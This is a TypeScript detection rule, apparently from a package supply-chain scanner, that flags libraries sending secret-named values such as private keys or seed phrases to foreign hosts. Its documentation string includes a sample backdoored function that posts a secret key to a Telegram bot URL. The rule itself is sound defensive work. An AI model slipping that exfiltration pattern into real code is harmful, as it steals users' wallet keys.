import type { Node } from '@babel/types';
import { defineRule, type CallInfo, type FileContext, HOLE, type Evaluator, NETWORK_CALLS, destinationOf, normalizeChain } from '../src/engine/api.js';
import { EXFIL_ENDPOINTS, matchIndicator } from '../src/engine/indicators.js';
import { SECRET_VALUE_NAME, ipLiteral, ownHostsOf } from '../src/engine/catalog.js';
import { isPublicIPv4 } from '../src/engine/indicators.js';
import type { Severity, Signal } from '../src/types.js';

/** Secret-shaped names in an expression (identifiers and property names), following local constants one level. */
function secretNames(node: Node, ev: Evaluator, out: Set<string>, depth = 0): void {
  const stack: Node[] = [node];
  for (let budget = 400; stack.length && budget > 0 && out.size < 4; budget--) {
    const n = stack.pop()!;
    if (n.type === 'FunctionExpression' || n.type === 'ArrowFunctionExpression') continue;
    if (n.type === 'Identifier') {
      if (SECRET_VALUE_NAME.test(n.name) && !/^[A-Z0-9_]+$/.test(n.name)) out.add(n.name);
      else if (depth < 2) {
        const init = ev.initOf(n);
        if (init) secretNames(init, ev, out, depth + 1);
      }
      continue;
    }
    if ((n.type === 'MemberExpression' || n.type === 'OptionalMemberExpression') && !n.computed && n.property.type === 'Identifier') {
      // Environment reads are the exfiltration-flow rule's (it knows providers' own hosts).
      if (ev.canonical(n.object) === 'process.env' || /^[A-Z0-9_]+$/.test(n.property.name)) continue;
      if (SECRET_VALUE_NAME.test(n.property.name)) {
        out.add(n.property.name);
        continue;
      }
    }
    // An object key names what is sent (`{ mnemonic: m }`): the value must still be a variable.
    if (n.type === 'ObjectProperty' && !n.computed && n.key.type === 'Identifier' && SECRET_VALUE_NAME.test(n.key.name) && n.value.type !== 'StringLiteral' && n.value.type !== 'NumericLiteral' && n.value.type !== 'BooleanLiteral') out.add(n.key.name);
    for (const k of ['left', 'right', 'expressions', 'arguments', 'object', 'callee', 'elements', 'argument', 'properties', 'value', 'quasi'] as const) {
      const c = (n as unknown as Record<string, unknown>)[k];
      if (Array.isArray(c)) for (const x of c) x && typeof (x as Node).type === 'string' && stack.push(x as Node);
      else if (c && typeof (c as Node).type === 'string') stack.push(c as Node);
    }
  }
}

/** Names of signing key material, as opposed to credentials presented to an API (apiSecret, clientSecret, token). */
const KEY_MATERIAL = /private_?key|priv_?key|secret_?key|mnemonic|seed|key_?pair|wallet|signing_?key/i;

/** The host of a destination when it is written in the code, or undefined. */
function literalHost(dest: string | undefined): string | undefined {
  if (!dest) return undefined;
  const m = /^(?:[a-z][a-z0-9+.-]*:\/\/)?(\[[0-9a-f:]+\]|[^/:?#\s]+)/i.exec(dest);
  const h = m?.[1];
  return h && !h.includes(HOLE) && (/[.:]/.test(h) || ipLiteral(h)) ? h : undefined;
}

export default defineRule({
  meta: {
    id: 'library-secrets',
    title: 'Secrets handed to a library sent to a foreign host',
    description:
      "Reports a library sending values with secret-shaped names (privateKey, secretKey, mnemonic, seed phrase, keypair, password, token) that it was given or holds, in a request body, URL, query or headers, to a host written in its code that is not its own. A wallet or signing library that posts its caller's keys to a webhook, a paste or Telegram bot, or a raw IP address is backdoored (critical); to another named host it is high for keys and seed phrases. Its own API host (the host of its homepage, repository or bugs URL, or one named like the package) is what SDKs call with their tokens and is not reported. The release diff weighs a version that adds such a flow as a hijack.",
    severity: 'high',
    category: 'network',
    references: ['https://attack.mitre.org/techniques/T1195/002/', 'https://attack.mitre.org/techniques/T1041/'],
    docs: {
      example: "export function fromSecretKey(secretKey) {\n  fetch('https://api.telegram.org/bot1/sendMessage', { method: 'POST', body: JSON.stringify({ text: bs58.encode(secretKey) }) });\n  return Keypair.fromSecretKey(secretKey);\n}",
      suppress: 'Turn the rule off for a run with `tollgate scan --disable-rule library-secrets`; its findings then neither show nor count toward the score.',
    },
  },
  create(pkgCtx) {
    const own = ownHostsOf(pkgCtx.manifest);
    return {
      call(call: CallInfo, ctx: FileContext) {
        if (!call.callee || !NETWORK_CALLS.test(normalizeChain(call.callee))) return;
        const args = call.node.arguments.filter((a) => a.type !== 'ArgumentPlaceholder' && a.type !== 'SpreadElement') as Node[];
        const dest = destinationOf(args, ctx.evaluator);
        const host = literalHost(dest);
        if (!host) return;
        const names = new Set<string>();
        for (const a of args) secretNames(a, ctx.evaluator, names);
        if (names.size === 0) return;
        const ip = ipLiteral(host);
        const drop = matchIndicator(EXFIL_ENDPOINTS, dest!) ?? (ip && (ip.includes(':') || isPublicIPv4(ip)) ? { label: 'a raw IP address' } : undefined);
        if (!drop && own(host)) return;
        if (!drop && ip) return; // a private or local address: a dev server, not a foreign host
        // Key material (private keys, seed phrases) never has to leave the machine: signing is local,
        // so sending it to any named host is high. API secrets, tokens and passwords exist to be sent
        // to the service that issued them, which a static reader cannot tell from another: medium.
        const keys = [...names].some((n) => KEY_MATERIAL.test(n));
        const severity: Severity = drop ? 'critical' : keys ? 'high' : 'medium';
        const signals: Signal[] = severity === 'medium' ? [] : ['flow:library-secret'];
        ctx.report({
          node: call.node,
          message: `sends ${[...names].slice(0, 3).join(', ')} to ${drop ? `${drop.label} (${host})` : `${host}, a host that is not this package's own`}`,
          severity,
          signals,
        });
      },
    };
  },
});
